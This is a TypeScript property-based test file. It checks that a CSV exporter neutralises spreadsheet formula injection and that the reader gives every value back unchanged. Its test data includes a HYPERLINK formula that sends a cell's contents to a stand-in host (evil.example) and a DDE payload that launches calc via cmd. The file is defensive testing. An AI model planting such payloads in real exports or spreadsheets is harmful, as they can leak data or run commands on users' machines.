/**
 * CSV formula injection (docs/api.md, export and import): no cell the writer writes starts a
 * spreadsheet formula (`=`, `+`, `-`, `@`, a tab or a CR first), a cell with a separator a
 * spreadsheet may split on is quoted, and the reader gives every value back unchanged — the escape
 * is a bijection between all values and the cells that start no formula.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { CsvReader, csvField, csvRow, escapeFormula, unescapeFormula } from '../../src/transfer/csv.ts';

const STARTS_FORMULA = /^[=+\-@\t\r]/;

/** The fields of one CSV text, read back. */
function read(text: string): string[][] {
  const reader = new CsvReader();
  return [...reader.push(text), ...reader.end()].map((r) => {
    assert.equal(r.error, undefined, JSON.stringify(text));
    return r.fields;
  });
}

/** value → the field as written. */
const WRITTEN: readonly [string, string][] = [
  ['=1+1', "'=1+1"],
  ['+1', "'+1"],
  ['-2', "'-2"],
  ['-cmd', "'-cmd"],
  ['@SUM(1)', "'@SUM(1)"],
  ['=HYPERLINK("https://evil.example/?"&A1,"open")', `"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"`],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['\t=1+1', '"\'\t=1+1"'],
  ['\r=1+1', '"\'\r=1+1"'],
  // A value that already starts with apostrophes and a formula gets one apostrophe more.
  ["'=1+1", "''=1+1"],
  ["''@x", "'''@x"],
  ["'\t", '"\'\'\t"'],
  // Everything else is written as it is.
  ["'", "'"],
  ["''", "''"],
  ["'a", "'a"],
  ["'a=1", "'a=1"],
  ['a=1', 'a=1'],
  ['news.example', 'news.example'],
  [' =1', ' =1'],
  ['', ''],
  ['1', '1'],
  // A separator some spreadsheets split on is quoted, so no piece of a cell starts a formula.
  ['a;=1+1', '"a;=1+1"'],
  ['a\t=1+1', '"a\t=1+1"'],
  ['a,@b', '"a,@b"'],
];

test('a value that would start a formula is written with a leading apostrophe; each is read back as it was', () => {
  for (const [value, field] of WRITTEN) {
    assert.equal(csvField(value), field, JSON.stringify(value));
    assert.deepEqual(read(`${field},x\r\n`), [[value, 'x']], JSON.stringify(field));
  }
  assert.equal(csvRow(['-cmd', '=1', 'ok']), "'-cmd,'=1,ok\r\n");
});

test('a cell no export wrote is taken as it is: a formula, apostrophes before other text', () => {
  const cells = ['=1+1', '-5', '@x', "'", "''", "'a", "'1", "x'=1"];
  for (const cell of cells) assert.equal(unescapeFormula(cell), cell, JSON.stringify(cell));
  assert.deepEqual(read("=1+1,-5,'a\r\n"), [['=1+1', '-5', "'a"]]);
});

/** Strings rich in apostrophes and the characters that start a formula. */
const text = fc.string({ unit: fc.constantFrom("'", "'", '=', '+', '-', '@', '\t', '\r', 'a', ' ', ',', ';', '"', '\n', 'é'), maxLength: 10 });

test('the escape is a bijection: every value comes back, every cell that starts no formula is the escape of one value', () => {
  fc.assert(
    fc.property(text, (value) => {
      const cell = escapeFormula(value);
      assert.equal(unescapeFormula(cell), value);
      assert.doesNotMatch(cell, STARTS_FORMULA);
    }),
    { numRuns: 5000 },
  );
  fc.assert(
    fc.property(text, (cell) => {
      fc.pre(!STARTS_FORMULA.test(cell));
      assert.equal(escapeFormula(unescapeFormula(cell)), cell);
    }),
    { numRuns: 5000 },
  );
});

test('rows written and read back are the same rows; no written cell, nor any piece of it between semicolons or tabs, starts a formula', () => {
  const rows = fc.array(fc.array(text, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 });
  fc.assert(
    fc.property(rows, (table) => {
      const csv = table.map(csvRow).join('');
      assert.deepEqual(read(csv), table);
      for (const value of table.flat()) {
        const field = csvField(value);
        const quoted = field.startsWith('"');
        assert.doesNotMatch(quoted ? field.slice(1) : field, STARTS_FORMULA, JSON.stringify(value));
        if (!quoted) assert.doesNotMatch(field, /[;\t]/, JSON.stringify(value));
      }
    }),
    { numRuns: 2000 },
  );
});
